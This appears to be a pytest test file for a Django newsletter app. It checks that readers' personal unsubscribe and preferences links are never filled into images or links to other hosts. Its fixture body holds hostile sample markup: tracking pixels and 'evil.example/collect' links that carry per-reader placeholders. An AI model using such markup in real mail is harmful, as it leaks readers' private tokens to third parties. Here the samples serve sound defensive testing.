"""Per-reader links are filled only in links to this site: never in images or links to other hosts."""

from __future__ import annotations

import re

import pytest
from django.urls import reverse

from issues import services
from issues.delivery.messages import envelope_for, recipient_for
from issues.delivery.transports.anymail_batch import bodies_templated
from issues.delivery.transports.base import personal_parts
from issues.models import Issue
from tests.issues.ledger_helpers import list_make
from tests.issues.test_views import cast, editor_client  # noqa: F401 (fixtures)

pytestmark = pytest.mark.django_db

SITE = "https://list.example.org"
HOSTILE_BODY = """\
Read this first.

![pixel](https://tracker.example/p.gif?u=%%unsubscribe_url%%)

<img src="https://tracker.example/raw.gif?t=%%unsubscribe_url%%&p=%%preferences_url%%" alt="">

<a href="https://evil.example/collect?p=%%preferences_url%%">a prize</a> and https://evil.example/?%%unsubscribe_url%%

<img src="https://tracker.example/mg.gif?%recipient.unsubscribe_url%"> <a href="https://evil.example/-unsubscribe_url-">sg</a>

Your link, in words: %%preferences_url%%

[Leave this list](%%unsubscribe_url%%) or <a href="%%preferences_url%%">choose your lists</a>,
and [the archive with your link](https://list.example.org/archive/?from=%%preferences_url%%).
"""


@pytest.fixture
def reader_copy(settings):
    """Freeze an issue with a hostile body and return (reader, text, html) of one reader's copy."""
    settings.SITE_URL = SITE
    news = list_make("news", footer_text="Footer: ![f](https://tracker.example/f.gif?%%unsubscribe_url%%)")
    issue = Issue.objects.create(title="Title %%unsubscribe_url%% -preferences_url-", body=HOSTILE_BODY)
    issue.lists.add(news)
    services.issue_freeze(issue=issue)
    issue.refresh_from_db()
    reader = recipient_for(issue=issue, delivery_id=1, subscriber_id=42, email="r@example.org", mailing_list=news)
    text, html = personal_parts(envelope_for(issue, news), reader)
    return issue, reader, text, html


def _tokens(reader) -> list[str]:
    return [reader.unsubscribe_url.rstrip("/").rsplit("/", 1)[1], reader.preferences_url.rstrip("/").rsplit("/", 1)[1]]


def test_no_reader_token_reaches_another_host(reader_copy):
    issue, reader, text, html = reader_copy
    for part in (text, html, issue.snapshot_subject):
        for url in re.findall(r"https?://[^\s\"'<>)]+", part):
            if not url.startswith(SITE + "/"):
                assert not any(token in url for token in _tokens(reader)), url
    assert "%%" not in text and "%%" not in html
    assert "%recipient" not in issue.snapshot_html and "-unsubscribe_url-" not in issue.snapshot_html
    assert "-preferences_url-" not in issue.snapshot_subject and "%%" not in issue.snapshot_subject


def test_links_to_this_site_get_the_readers_own_links(reader_copy):
    _, reader, text, html = reader_copy
    assert f'href="{reader.unsubscribe_url}"' in html  # [Leave this list](%%unsubscribe_url%%)
    assert f'href="{reader.preferences_url}"' in html  # <a href="%%preferences_url%%">
    assert f'href="{SITE}/archive/?from={reader.preferences_url}"' in html
    assert f"Leave this list <{reader.unsubscribe_url}>" in text
    # The footer's own links, as ever.
    assert f"Unsubscribe: {reader.unsubscribe_url}\n" in text and f"Preferences: {reader.preferences_url}\n" in text


def test_image_sources_and_other_hosts_keep_no_placeholder(reader_copy):
    _, _, text, html = reader_copy
    assert 'src="https://tracker.example/raw.gif?t=&amp;p="' in html
    assert 'href="https://evil.example/collect?p="' in html
    assert "https://evil.example/? " in text or "https://evil.example/?\n" in text


def test_the_provider_batch_body_has_the_readers_variables_only_in_our_links(reader_copy):
    issue, _, _, _ = reader_copy
    news = issue.lists.get()
    text, html = bodies_templated(envelope_for(issue, news), "%recipient.{}%")
    for url in re.findall(r"https?://[^\s\"'<>)]+", html + text):
        if "%recipient." in url:
            assert url.startswith(SITE + "/"), url
    assert 'href="%recipient.unsubscribe_url%"' in html


def test_the_preview_warns_that_reader_links_will_be_left_out(editor_client, settings):  # noqa: F811
    settings.SITE_URL = SITE
    news = list_make("news")
    hostile = Issue.objects.create(title="Hostile", body=HOSTILE_BODY)
    clean = Issue.objects.create(title="Clean", body="Just [leave](%%unsubscribe_url%%) if you must.")
    for issue in (hostile, clean):
        issue.lists.add(news)

    page = editor_client.get(reverse("editor:issue_preview", kwargs={"issue_id": hostile.pk})).content.decode()
    assert 'id="placeholder-warning"' in page and "Reader links left out" in page
    assert re.search(r"The text has \d+ per-reader link placeholders", page)

    page = editor_client.get(reverse("editor:issue_preview", kwargs={"issue_id": clean.pk})).content.decode()
    assert "placeholder-warning" not in page


def test_the_archive_shows_no_placeholder(reader_copy, client):
    issue, _, _, _ = reader_copy
    from issues.rendering import issue_render_archive

    assert "%%" not in issue_render_archive(issue)
